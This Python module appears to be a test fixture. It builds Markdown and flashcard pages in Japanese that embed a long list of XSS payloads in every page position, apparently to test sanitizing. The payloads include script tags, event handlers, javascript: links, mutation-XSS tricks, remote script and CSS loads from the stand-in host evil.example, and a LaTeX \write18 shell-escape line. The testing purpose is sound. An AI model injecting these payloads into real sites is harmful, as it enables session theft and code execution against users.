"""Pages as an enemy, or a careless copy from the web, would write them: each payload at each place of a page.

What would run calls `hit()`, what would be asked for lies on `evil.example`.
"""

from collections.abc import Iterator

REMOTE = "https://evil.example"
PAYLOADS: tuple[str, ...] = (
    "<script>hit()</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<script>hit()", "</script><script>hit()</script>",
    "<img src=x onerror=hit()>", "<img src=x.png onload=hit()>", "<img/src=x/onerror=hit()>", '<img src="x" alt="" onerror="hit()">',
    "<svg onload=hit()>", "<svg><script>hit()</script></svg>", "<svg><g onload=hit()></g><text>図</text></svg>",
    "<svg><image href='https://evil.example/x.png'/><text>図</text></svg>", "<svg><use href='https://evil.example/x.svg#a'/><text>図</text></svg>",
    "<svg><animate onbegin=hit() attributeName=x dur=1s /><text>図</text></svg>", "<svg><foreignObject><img src=x onerror=hit()></foreignObject></svg>",
    "<math><mi xlink:href='javascript:hit()'>x</mi></math>", "<math><mtext><img src=x onerror=hit()></mtext></math>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=hit()></annotation-xml><mi>x</mi></math>",
    "<math href='javascript:hit()'><mi>x</mi></math>", "<math><mi onclick=hit() onmouseover=hit()>x</mi></math>",
    '<iframe srcdoc="<script>parent.hit()</script>"></iframe>', "<iframe src='javascript:parent.hit()'></iframe>", "<iframe src=https://evil.example></iframe>",
    '<object data="data:text/html,<script>hit()</script>"></object>', "<embed src=https://evil.example/x.swf>", "<frameset onload=hit()><frame src=x></frameset>",
    "<details open ontoggle=hit()><summary>要</summary>x</details>", "<video autoplay onplay=hit()><source src=x onerror=hit()></video>",
    "<audio src=x onerror=hit() autoplay></audio>", "<body onload=hit()>", "<input autofocus onfocus=hit()>", "<select autofocus onfocus=hit()>",
    "<textarea autofocus onfocus=hit()>", "<button autofocus onfocus=hit()>押</button>", "<marquee onstart=hit()>動</marquee>",
    "<div style='background:url(https://evil.example/x)'>地</div>", "<p style='animation:x' onanimationstart=hit()>動</p>",
    "<style>@import url(https://evil.example/x.css);</style>", "<style>p{background:url(https://evil.example/y)}</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>", "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>", "<form action=https://evil.example><input type=submit></form>", "<isindex type=image src=x onerror=hit()>",
    "<a href='javascript:hit()'>鍵</a>", "<a href=' java&#x0a;script:hit()'>鍵</a>", "[鍵](javascript:hit())", "[鍵](<java\tscript:hit()>)",
    "![図](javascript:hit())", '<https://evil.example/"onmouseover=hit()>', "[鍵](https://a.b 't\" onclick=\"hit()')", "![図](x.png 't\" onload=\"hit()')",
    '![" onerror=hit() x="](none.png)', "[a]: javascript:hit()\n[a]", "{<img src=x onerror=hit()>|かな}", "==<img src=x onerror=hit()>==",
    '<noscript><p title="</noscript><img src=x onerror=hit()>">', '<svg></p><style><a id="</style><img src=1 onerror=hit()>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hit()&gt;">', "<template><script>hit()</script></template>",
    "<xmp><img src=x onerror=hit()></xmp>", "<title><img src=x onerror=hit()></title>", "<plaintext><script>hit()</script>",
    "<!--><img src=x onerror=hit()>-->", '<!--<img src="--><img src=x onerror=hit()>">', "<![CDATA[<img src=x onerror=hit()>]]>", "<?x <img src=x onerror=hit()> ?>",
    "`<img src=x onerror=hit()>`", "$<img src=x onerror=hit()>$", "\\(\\href{javascript:hit()}{x}\\)",
    "\\(\\unicode{<img src=x onerror=hit()>}\\)", "$$\\style{background:url(https://evil.example)}{x}$$", "\\(x\\)</script><script>hit()</script>",
    "{{Question}} {{#Answer}}{{/Answer}} {{{Answer}}}", "{{FrontSide}}", "{{c1::<img src=x onerror=hit()>}}", "{{c1::a::<img src=x onerror=hit()>}}",
    "[sound:x.mp3]", "[sound:https://evil.example/x.mp3]", "[anki:tts lang=en_US]x[/anki:tts]", "[latex]\\write18{id}[/latex]", "[$]x[/$]", "[[type:Question]]",
    "<pre><img src=https://evil.example/x.png></pre>", "<code><img src=https://evil.example/x.png></code>",
    "<img src=https://evil.example/x.png>", "![図](https://evil.example/x.png)", "<img srcset='https://evil.example/x.png 1x'>", "<img data-src=https://evil.example/x.png>",
    "<picture><source srcset=https://evil.example/x.png><img src=x.png></picture>", "<video src=https://evil.example/x.mp4></video>", "<input type=image src=https://evil.example/x>",
    '<img src="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iaGl0KCkiLz4=">', "<img src='data:text/html,<script>hit()</script>'>",
    "<ruby>漢<rt><img src=x onerror=hit()></rt></ruby>", "<span class='math'>\\(<img src=x onerror=hit()>\\)</span>", "<p data-lines='1-1' id=x onclick=hit()>文</p>",
    "\u202e<img src=x onerror=hit()>", "&lt;img src=x onerror=hit()&gt;", "&#60;script&#62;hit()&#60;/script&#62;", "\\<script>hit()\\</script>",
    # Last, for in a line of text it begins a block of code that nothing ends.
    '``` "><script>hit()</script>\n<img src=x onerror=hit()>\n```',
)  # fmt: skip
PLACES: dict[str, str] = {
    "prose": "## 冗長化{n}とは？\n\n二つ {} 置く。\n",
    "alone": "## 冗長化{n}とは？\n\n前。\n\n{}\n\n後。\n",
    "heading": "## 冗長化{n} {} とは？\n\n二つ置く。\n",
    "item": "## 冗長化{n}とは？\n\n- {}\n- 二つ置く {}\n",
    "bullet": "- 冗長化{n} {} とは？\n  - 二つ置く\n",
    "cell": "| 問題 | 答え |\n|---|---|\n| 冗長化{n} {} とは？ | 二つ {} 置く |\n",
    "option": "## 問{n}\n\nどれが正しい？\n\n- A. 甲 {}\n- B. 乙 {}\n\n**正解：A**\n\n- B は {} だから誤り\n",
    "fold": "<details><summary>冗長化{n} {} とは？</summary>\n\n二つ {} 置く。\n\n</details>\n",
    "quote": "## 冗長化{n}とは？\n\n> [!NOTE]\n> 二つ {} 置く。\n",
    "raw": "## 冗長化{n}とは？\n\n<div>\n二つ {} 置く。\n</div>\n",
    "plugin": "冗長化{n} {} :: 二つ置く {}\n",
    "cloze": "冗長化{n} {} は {{c1::二つ {}}} 置く。\n",
}


def pages() -> Iterator[tuple[str, str]]:
    """Yield the name and the text of a page for each place, with all payloads."""
    for place, shape in PLACES.items():
        pieces = (
            shape.replace("{n}", chr(0x4E00 + n)).replace("{}", payload) for n, payload in enumerate(PAYLOADS)
        )
        yield place, f"# 題 {PAYLOADS[0]}\n\n" + "\n".join(pieces)
